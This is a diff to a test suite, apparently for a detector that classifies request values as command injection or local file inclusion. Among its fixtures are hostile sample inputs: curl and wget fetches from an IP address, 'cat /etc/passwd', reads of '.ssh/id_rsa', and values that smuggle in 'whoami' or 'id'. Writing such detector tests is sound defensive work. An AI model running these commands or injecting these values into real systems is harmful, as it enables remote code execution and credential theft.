@@ -429,7 +429,9 @@ test.each([
   'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
   'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like Gecko',
   'Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)',
-])('the User-Agent %s is no note: what a parenthesis closes there was opened there', (agent) => {
+  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
+  'curl/8.4.0 (+https://www.example.com/bot)',
+])('the User-Agent %s is no note', (agent) => {
   const { findings } = analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r');
   expect(findings).toEqual([]);
 });
@@ -445,6 +447,38 @@ test('what a program says of itself between semicolons is no command, and comman
   for (const act of ['whoami', 'touch /tmp/x', 'cat /etc/passwd', 'wget http://203.0.113.7/a'])
     expect(rules(`Mozilla/5.0 (Windows NT 6.3; ${act}; rv:11.0)`), act).not.toEqual([]);
   expect(rules('x; touch; y')).toContain('rce/command');
+});
+
+test('whoever asks with curl is told from a command that does', () => {
+  expect(certainClass('curl/8.4.0 http://203.0.113.7/a')).toBeUndefined();
+  for (const act of [
+    'curl http://203.0.113.7/a',
+    'wget${IFS}http://203.0.113.7/a',
+    '/usr/bin/curl -s http://203.0.113.7/a',
+  ])
+    expect(certainClass(act), act).toBe('rce');
+});
+
+test.each([
+  'C:\\Users\\anna\\Documents\\report.docx',
+  'Build finished; less than 5 warnings',
+  'Cups; plates &amp; more',
+])('%s is nothing that attacks', (text) => {
+  expect(judgeValue(text).filter(({ certain }) => certain)).toEqual([]);
+});
+
+test.each([
+  ['C:\\Users\\Administrator\\Desktop\\x.txt', 'lfi'],
+  ['c:/users/anna/.ssh/id_rsa', 'lfi'],
+  ['done; less /etc/passwd', 'rce'],
+  ['a&amp;whoami', 'rce'],
+  ['`id -a`', 'rce'],
+])('%s still is %s', (text, attack) => {
+  expect(
+    judgeValue(text)
+      .filter(({ certain }) => certain)
+      .map((hit) => hit.class),
+  ).toContain(attack);
 });
 
 test('a parenthesis that closes what the value did not open is still one that breaks out', () => {
